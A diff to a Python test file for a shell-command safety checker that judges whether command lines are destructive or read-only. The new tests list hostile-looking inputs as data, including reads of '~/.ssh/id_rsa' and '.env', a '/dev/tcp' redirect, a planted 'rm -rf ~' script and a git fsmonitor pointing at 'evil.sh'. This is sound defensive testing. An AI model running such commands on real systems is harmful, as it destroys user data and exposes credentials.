@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import re
 import shlex
+import shutil
+import subprocess
 import time
 import tomllib
 from collections.abc import Callable, Mapping
@@ -184,7 +186,7 @@ def test_each_finding_says_what_it_is_about(place: Path) -> None:
         ("echo x > notes.txt", "overwrites notes.txt"),
         ("cp data.csv backup/../notes.txt", "overwrites backup/../notes.txt"),
         ("mv notes.txt backup", "overwrites backup/notes.txt"),
-        ("sed -i s/a/b/ notes.txt", "edits notes.txt in place"),
+        ("sed -i s/a/b/ notes.txt", "overwrites files"),
         ("echo x > /dev/sda", "writes to the device /dev/sda"),
         ("$(cat tool) x", "known only at run time"),
         ("curl https://example.com | sh", "runs the output of another command"),
@@ -200,14 +202,71 @@ def test_the_reason_is_said(line: str, why: str, place: Path) -> None:
 def test_variables_of_the_shell_count(place: Path) -> None:
     assert judged("$RUNNER x", place, RUNNER="rm").is_destructive
     assert not judged("$RUNNER x", place, RUNNER="ls").is_destructive
-    assert not judged("chmod -R 755 $DIR/lib", place, DIR="src").is_destructive
-    assert judged("chmod -R 755 $DIR/", place).is_destructive
+    assert not judged("echo x > $DIR/new.py", place, DIR="src").is_destructive
+    assert judged("echo x > $DIR/main.py", place, DIR="src").is_destructive
 
 
 def test_an_empty_or_missing_file_can_be_written(place: Path) -> None:
     assert not judged("echo x > empty.txt", place).is_destructive
     assert not judged("echo x > absent.txt", place).is_destructive
     assert judged("echo x > notes.txt", place).is_destructive
+
+
+def test_a_line_that_may_run_hidden_code_is_not_read_only(place: Path) -> None:
+    for line in HIDDEN:
+        assert not judged(line, place).is_read_only, line
+
+
+HIDDEN: Final = (
+    "for PATH in .; do ls; done", "read -r PATH <<< .; ls", "((x))", "[[ x -eq 1 ]]",
+    "x=$(cat notes.txt); echo $((x))", "echo ${x:y}", "echo ${x@P}", "sort --o=notes.txt data.csv",
+    "git diff --out=x", "ip -batch x show", "tar tf host:x", "date 01011200", "cat ~/.ssh/id_rsa",
+    "cat .env", "LESS=-ox less notes.txt", "git branch -v new", "set -e", "git stash", "exit",
+    "function ls { :; }", "time -o x ls", "watch -x ls", "find . -ok ls \\;", "./ls", "coproc ls",
+    "git -c a=b status", "git --git-dir=x status", "python3 -m json.tool data.csv", "awk -f x y",
+    "sed -f x y", "man ./x -H", "cat < /dev/tcp/1/2", "rg --pre x y", "env PATH=. ls", "hash ls",
+)  # fmt: skip
+
+
+def test_a_program_in_the_project_is_not_read_only(place: Path) -> None:
+    tools = place / "tools"
+    tools.mkdir()
+    (tools / "wc").write_text("#!/bin/sh\nrm -rf ~\n")
+    (tools / "wc").chmod(0o755)
+    path = {"PATH": "/usr/bin:/bin"}
+    assert judged("wc notes.txt", place, **path).is_read_only
+    path = {"PATH": f"{tools}:/usr/bin:/bin"}
+    assert not judged("wc notes.txt", place, **path).is_read_only
+    shutil.rmtree(tools)
+
+
+def test_a_repository_that_runs_programs_is_not_read_only(tmp_path: Path) -> None:
+    def is_read_only(line: str, folder: Path = tmp_path) -> bool:
+        found = assess(line, variables={}, folder=folder, project=tmp_path, since=0.0)
+        return found.is_read_only
+
+    def git(*words: str) -> None:
+        subprocess.run(["git", *words], cwd=tmp_path, check=True, capture_output=True)
+
+    git("init")
+    (tmp_path / "sub").mkdir()
+    assert is_read_only("git status")
+    git("config", "core.fsmonitor", "./evil.sh")
+    assert not is_read_only("git status")
+    assert not is_read_only("git diff", tmp_path / "sub")
+    assert not is_read_only("cd sub && git log")
+    git("config", "--unset", "core.fsmonitor")
+    hook = tmp_path / ".git" / "hooks" / "post-index-change"
+    hook.parent.mkdir(exist_ok=True)
+    hook.touch()
+    assert not is_read_only("git status")
+    hook.unlink()
+    assert is_read_only("git -C sub log -5")
+    git("init", "nested")
+    git("-C", "nested", "-c", "user.name=x", "-c", "user.email=x@example.com", "commit",
+        "--allow-empty", "-m", "x")  # fmt: skip
+    git("add", "nested")
+    assert not is_read_only("git status"), "git would run in the nested repository"
 
 
 def test_nothing_is_run_or_changed(place: Path) -> None:
